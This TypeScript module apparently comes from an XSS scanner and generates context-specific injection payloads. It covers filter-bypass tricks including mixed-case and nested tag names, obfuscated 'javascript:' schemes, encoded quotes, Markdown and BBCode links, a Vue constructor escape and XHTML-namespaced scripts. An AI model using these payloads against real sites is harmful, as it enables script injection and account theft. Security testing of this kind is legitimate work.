/** Payloads for a context, of those that come back whole, the most telling first. */

import { isDirective } from '../contexts.ts'
import type { Context } from '../facts.ts'
import { CALL, type Call, callFor, passesAll } from './calls.ts'
import { attributesFor, FRAMES, type Style, VECTORS, type Vector } from './elements.ts'
import type { FilterProfile, Reading } from './filter-profile.ts'
import { inScript } from './scripts.ts'

export interface Candidate {
  readonly payload: string
  /** What has to stand in code once the page is read. */
  readonly code: string
  /** Names that filters look for; null where it makes none. */
  readonly tag: string | null
  readonly event: string | null
  /** With its slash, that of the element that it ends; absent where it ends none. */
  readonly ends?: string
  /** It runs without any act of the visitor. */
  readonly itself: boolean
  /** Where the page puts it, of what it makes markup of; absent where that is the context it was made for. */
  readonly becomes?: Context
}

/**
 * How names are sent: as they are, in mixed case, in a tag that the page's next bracket ends, or within themselves for
 * filters that take a name, or a whole tag, out once.
 */
export type Dress = 'plain' | 'mixed' | 'open' | 'nested' | 'wrapped'

export interface Making {
  readonly context: Context
  readonly ways: FilterProfile
  readonly nonce: number
  readonly dress: Dress
  /** Names that do not come back. */
  readonly lost: ReadonlySet<string>
}

export const candidatesFor = function* (making: Making): Generator<Candidate> {
  if (making.context.kind === 'xml') {
    yield* inXml(making)
    return
  }
  const style = styleOf(making)
  // A filter may look at how a value begins.
  const start = making.dress === 'plain' || making.context.kind !== 'text' ? '' : 'q'
  const leads = leadsOf(making).map((lead) => `${start}${lead}`)
  // An element of its own runs whatever becomes of the code or the element around it.
  if (style) for (const lead of leads) yield* elements(making, style, lead, VECTORS.slice(0, FIRST))
  yield* inPlace(making, style)
  if (style) for (const lead of leads) yield* elements(making, style, lead, VECTORS.slice(FIRST))
  if (making.context.kind === 'text' && making.dress === 'plain') yield* linked(making)
}
const FIRST = 3

/**
 * A page that encodes every bracket may still make links of what its visitors write: Markdown, BBCode. Brackets of the call stand
 * encoded, as a simple reader ends the address at the first; browsers decode what stands behind `javascript:`.
 */
const linked = function* ({ ways, nonce }: Making): Generator<Candidate> {
  const call = `${CALL}%28${nonce}%29`
  const made = { code: `${CALL}(${nonce})`, tag: null, event: 'javascript:', itself: false, becomes: LINK }
  const address = `javascript:${call}`
  const payload = `[q](${address}) [url=${address}]q[/url]`
  if (!passesAll(payload, 'markup', ways, false)) return
  yield { ...made, payload }
  // To browsers a reference by number ends where its digits do; who looks for its end elsewhere reads another scheme, and keeps it as it is.
  yield { ...made, payload: `[q](javascript&#58this;${call})` }
}
const LINK: Context = { kind: 'url', tag: 'a', attribute: 'href', quote: '"' }

/** Of those that `candidatesFor` has. */
export const isLinked = ({ becomes }: Candidate): boolean => becomes === LINK

/** Null where an element cannot be written. */
const styleOf = (making: Making): Style | null => {
  const { ways, dress } = making
  const space = spaceOf(ways)
  if (space === null) return null
  const open = ways.passes('/', 'markup') ? '//' : `${space}x=`
  return {
    space,
    close: dress !== 'open' && ways.passes('>', 'markup') ? '>' : open,
    dressed: (name) => dressed(name, making),
  }
}

/** The last is no space within a value that has no quotes. */
const SPACES = [' ', '\t', '\n', '/']

const spaceOf = (ways: FilterProfile): string | null => SPACES.find((char) => ways.passes(char, 'markup')) ?? null

const dressed = (name: string, { dress, lost }: Making, known = name): string => {
  if (dress === 'mixed') return [...name].map((char, index) => (index % 2 === 0 ? char.toUpperCase() : char)).join('')
  const gone = lost.has(known) || (name.startsWith('on') && lost.has('on'))
  if (!gone || dress === 'plain' || dress === 'open') return name
  const around = dress === 'wrapped' ? `<${known}>` : name
  return `${name.slice(0, 2)}${around}${name.slice(2)}`
}

const elements = function* (
  { ways, nonce, context }: Making,
  style: Style,
  lead: string,
  vectors: readonly Vector[],
): Generator<Candidate> {
  const name = lead.startsWith('</') ? endOf(context) : null
  const ends = name === null ? {} : { ends: `/${name}` }
  for (const vector of context.kind === 'dropped' ? [...FRAMES, ...vectors] : vectors) {
    const { tag, event, itself } = vector
    const call = callFor(nonce, event === null ? 'script' : event === 'javascript:' ? 'address' : 'value', ways)
    if (!call) continue
    const payload = `${lead}${vector.write(call, style)}`
    if (passesAll(payload, 'markup', ways, false)) yield { payload, code: call.code, tag, event, itself, ...ends }
  }
}

/** What leaves the context for where elements may stand. */
const leadsOf = (making: Making): readonly string[] => {
  const { kind, tag, quote, outer } = making.context
  const end = endOf(making.context)
  // Names that filters take out are lost with their slash: an end may go where a beginning stays.
  if (end !== null) return [`</${dressed(end, making, `/${end}`)}>`]
  switch (kind) {
    case 'text':
      return ['']
    case 'comment':
      return tag === '!' ? ['>', '-->'] : ['-->', '--!>']
    case 'attribute':
    case 'url':
      // Behind its beginning such an element holds text alone, until its end.
      return HOLDS_TEXT.has(tag) ? [`${quote}></${tag}>`, `${quote}>`] : [`${quote}>`]
    case 'srcdoc':
      return [`${quote}>`]
    case 'handler':
    case 'script-url':
      return [`${outer ?? ''}>`]
    case 'tag-name':
    case 'attribute-name':
    case 'end-tag':
      return ['>']
    case 'dropped':
      return ['', '>', `">`, `'>`, '-->']
    default:
      return []
  }
}

const HOLDS_TEXT: ReadonlySet<string> = new Set(['iframe', 'textarea', 'title', 'style', 'script', 'noembed', 'xmp'])

/** The element that has to end first. */
const endOf = ({ kind, tag }: Context): string | null =>
  kind === 'script' ? 'script' : kind === 'raw-text' ? tag : null

const inPlace = function* (making: Making, style: Style | null): Generator<Candidate> {
  const { context, ways, nonce } = making
  const { kind, quote, outer } = context
  const plain = { tag: null, event: null, itself: true }
  switch (kind) {
    case 'attribute':
    case 'url':
      if (kind === 'url') yield* addresses(making)
      yield* attributes(making, quote || 'x', quote)
      return
    case 'attribute-name':
      yield* attributes(making, '', '')
      return
    case 'tag-name':
      if (style) yield* named(making, style)
      return
    case 'script':
      for (const call of scriptCalls(nonce, 'script', ways))
        for (const { payload, freed } of inScript(quote, call))
          if (passesBut(payload, freed, 'script', ways)) yield { ...plain, payload, code: call.code }
      return
    case 'handler':
    case 'script-url': {
      const reading = kind === 'handler' ? 'value' : 'address'
      const directive = isDirective(context.attribute)
      const calls = directive ? directiveCalls(context.attribute ?? '', nonce, ways) : scriptCalls(nonce, reading, ways)
      for (const call of calls)
        for (const { payload, freed } of inScript(quote, call)) {
          // Libraries take one expression.
          if (directive && payload.includes(';')) continue
          // What would end the attribute has to come back as an entity.
          const ends = outer !== undefined && outer !== '' && payload.includes(outer) && ways.passes(outer, 'markup')
          if (!ends && passesBut(payload, freed, reading, ways)) yield { ...plain, payload, code: call.code }
          const coded = payload.replace(/["'`<>\\]/g, (char) => `&#${char.charCodeAt(0)};`)
          const needed = ends || !passesBut(payload, freed, reading, ways)
          if (needed && coded !== payload && passesAll(coded, reading, ways))
            yield { ...plain, payload: coded, code: call.code }
        }
      yield* attributes(making, outer || 'x', outer ?? '')
      return
    }
    case 'srcdoc':
      yield* withinFrame(making)
      return
    default:
  }
}

const scriptCalls = (nonce: number, reading: Reading, ways: FilterProfile): readonly Call[] => {
  const call = callFor(nonce, reading, ways)
  return call ? [call] : []
}

/** Vue lets expressions see the members of the page's own data alone, and every one of these has a constructor. */
const directiveCalls = (attribute: string, nonce: number, ways: FilterProfile): readonly Call[] => {
  const constructed = `constructor.constructor(\`${CALL}(${nonce})\`)()`
  const vue = /^[v@:]/.test(attribute) ? [{ written: constructed, code: constructed }] : []
  return [...(attribute.startsWith('v-') ? [] : scriptCalls(nonce, 'value', ways)), ...vue]
}

/** A backslash that comes back as it is frees the quote behind it, which then need not. */
const passesBut = (payload: string, freed: string | null, reading: Reading, ways: FilterProfile): boolean =>
  passesAll(freed === null ? payload : payload.replace(freed, ''), reading, ways) &&
  (freed === null || ways.passes('\\', reading))

/**
 * `lead` ends the attribute before: its quote, or a value where it has none, since space before a value is no value. `quote`
 * is what the page puts behind. Both '' where a name stands.
 */
const attributes = function* (making: Making, lead: string, quote: string): Generator<Candidate> {
  const { context, ways, nonce } = making
  const call = callFor(nonce, 'value', ways)
  const space = spaceOf(ways)
  if (!call || (quote === '' && (space === null || space === '/'))) return
  for (const { before, event, scheme = '', itself } of attributesFor(context.tag)) {
    // What the page writes behind it is no part of the call.
    const code = quote !== '' && ways.passes('/', 'markup') ? `${scheme}${call.written}//` : `${scheme}${call.written}`
    const others = before.split(' ').filter((one) => one !== '')
    const name = dressed(event, making)
    if (quote !== '' && !ways.passes(quote, 'value')) {
      // A quote with a backslash in front ends a value all the same, and begins none: the last takes what the page writes behind it.
      const bare = [...others, `${name}=${scheme}${call.written}`, 'x=y'].map((one) => `${space}${one}`).join('')
      const loose = `${lead}${bare}`
      if (space !== null && space !== '/' && passesAll(loose, 'markup', ways, false))
        yield { payload: loose, code: call.code, tag: null, event, itself }
      continue
    }
    const payload =
      space === null
        ? // Behind a quoted value browsers need no space.
          `${lead}${others.map((one) => `${one.replace('=', `=${quote}`)}${one.includes('=') ? '' : `=${quote}`}${quote}`).join('')}${name}=${quote}${code}`
        : `${lead}${[...others, `${name}=${quote}${code}`].map((one) => `${lead === '' ? '' : space}${one}${lead === '' ? space : ''}`).join('')}${quote === '' && lead !== '' ? space : ''}`
    if (passesAll(payload, 'markup', ways, false)) yield { payload, code: call.code, tag: null, event, itself }
  }
}

/** The bracket is there already. */
const named = function* ({ ways, nonce }: Making, style: Style): Generator<Candidate> {
  for (const vector of VECTORS.slice(0, 8)) {
    const call = callFor(nonce, vector.event === null ? 'script' : 'value', ways)
    if (!call) continue
    const payload = vector.write(call, { ...style, close: style.space }).slice(1)
    if (passesAll(payload, 'markup', ways, false))
      yield { payload, code: call.code, tag: vector.tag, event: vector.event, itself: vector.itself }
  }
}

/** Elements whose address is opened, at once or by a click. */
const OPENED: ReadonlySet<string> = new Set(['iframe', 'frame'])
const PRESSED: ReadonlySet<string> = new Set(['a', 'area', 'form', 'button', 'input', 'animate', 'set'])

/** Names of the scheme for filters that look for it. */
const SCHEMES = ['java\tscript:', 'java&#9;script:', 'javascript&colon;', '&#106;avascript:']

const addresses = function* (making: Making): Generator<Candidate> {
  const {
    context: { tag },
    ways,
    nonce,
  } = making
  const call = callFor(nonce, 'address', ways)
  if (!call) return
  if (tag === 'script') {
    const payload = `data:text/javascript,${call.written}`
    if (passesAll(payload, 'address', ways)) yield { payload, code: call.code, tag: null, event: 'data:', itself: true }
    return
  }
  if (!OPENED.has(tag) && !PRESSED.has(tag)) return
  for (const scheme of [`${dressed('javascript', making)}:`, ...SCHEMES]) {
    const payload = `${scheme}${call.written}`
    if (passesAll(payload, 'address', ways, false))
      yield { payload, code: call.code, tag: null, event: 'javascript:', itself: OPENED.has(tag) }
  }
}

/** A document of its own, whose markup is decoded once more. */
const withinFrame = function* ({ context, ...making }: Making): Generator<Candidate> {
  const inner = context.inner ?? { kind: 'text', tag: 'body', attribute: null, quote: '' }
  const loose: FilterProfile = { ...making.ways, passes: (char) => making.ways.passes(char, 'value') }
  const coding: FilterProfile = { ...making.ways, passes: () => true }
  for (const ways of [loose, coding])
    for (const one of candidatesFor({ ...making, context: inner, ways })) {
      const payload =
        ways === loose ? one.payload : one.payload.replace(/[<>"']/g, (char) => `&#${char.charCodeAt(0)};`)
      // The quote of the attribute itself would end it.
      if (
        ways === loose &&
        context.quote !== '' &&
        payload.includes(context.quote) &&
        making.ways.passes(context.quote, 'markup')
      )
        continue
      if (passesAll(payload, 'value', making.ways, false)) yield { ...one, payload }
    }
}

/** Read by the rules of XML: names of HTML need its namespace, and every element an end. */
const inXml = function* ({ context: { quote }, ways, nonce }: Making): Generator<Candidate> {
  const call = callFor(nonce, 'script', ways)
  if (!call) return
  const bodies = [
    `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call.written}</x:script>`,
    `<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${call.written}</x:script>`,
    `<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x" onerror="${call.written}"/>`,
  ]
  // Without brackets an attribute of the same element does it, where that is one of HTML; each needs its value.
  if (quote !== '')
    for (const event of [
      'autofocus=QQ tabindex=Q1Q onfocus',
      'style=Qdisplay:block;position:fixed;top:0;left:0;width:99%;height:99%Q onmouseover',
    ]) {
      const payload = `${quote} ${event.replaceAll('Q', quote)}=${quote}${call.written}`
      if (passesAll(payload, 'markup', ways, false))
        yield {
          payload,
          code: call.code,
          tag: null,
          event: event.split(' ').at(-1) ?? '',
          itself: event.startsWith('a'),
        }
    }
  const leads = quote === '' ? ['', ']]>', '-->'] : [`${quote}>`, `${quote}/>`]
  for (const lead of leads)
    for (const body of bodies) {
      const payload = `${lead}${body}`
      if (passesAll(payload, 'markup', ways, false))
        yield { payload, code: call.code, tag: 'script', event: null, itself: true }
    }
}
